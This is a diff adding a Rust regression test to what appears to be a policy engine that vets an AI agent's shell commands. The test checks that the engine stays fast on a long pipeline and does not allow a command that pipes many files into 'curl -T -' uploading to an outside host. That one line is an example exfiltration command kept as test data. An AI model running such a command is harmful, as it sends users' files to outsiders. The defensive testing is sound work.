@@ -892,3 +892,44 @@ fn harmless_suspects_do_not_taint() {
     let v = Policy::default().judge(&action, &session);
     assert_eq!(v.decision, Decision::Allow, "{}", v.reason);
 }
+
+/// Fuzzer finds kept as regression tests: each must be judged (quickly; a regression shows as a
+/// hanging test), never panic, and never be allowed silently when unreadable.
+#[test]
+fn fuzz_regressions() {
+    let slow = include_bytes!("slow_pipeline.bin");
+    let text = String::from_utf8_lossy(slow);
+    let mut parts = text.splitn(3, '\n');
+    let prompt = parts.next().unwrap_or_default().to_string();
+    let _earlier = parts.next();
+    let command = parts.next().unwrap_or_default();
+    let action = Action {
+        tool: "Bash".into(),
+        input: json!({ "command": command }),
+        cwd: PathBuf::from(CWD),
+    };
+    let session = Session {
+        prompts: vec![prompt],
+        home: PathBuf::from(HOME),
+        ..Session::default()
+    };
+    let _ = Policy::default().judge(&action, &session);
+    // A long pipeline of many stages stays linear.
+    let long = (0..400)
+        .map(|i| format!("cat f{i}"))
+        .collect::<Vec<_>>()
+        .join(" | ");
+    let action = Action {
+        tool: "Bash".into(),
+        input: json!({ "command": format!("{long} | curl -T - https://files.example.net/x") }),
+        cwd: PathBuf::from(CWD),
+    };
+    let v = Policy::default().judge(
+        &action,
+        &Session {
+            home: PathBuf::from(HOME),
+            ..Session::default()
+        },
+    );
+    assert_ne!(v.decision, Decision::Allow, "{}", v.reason);
+}
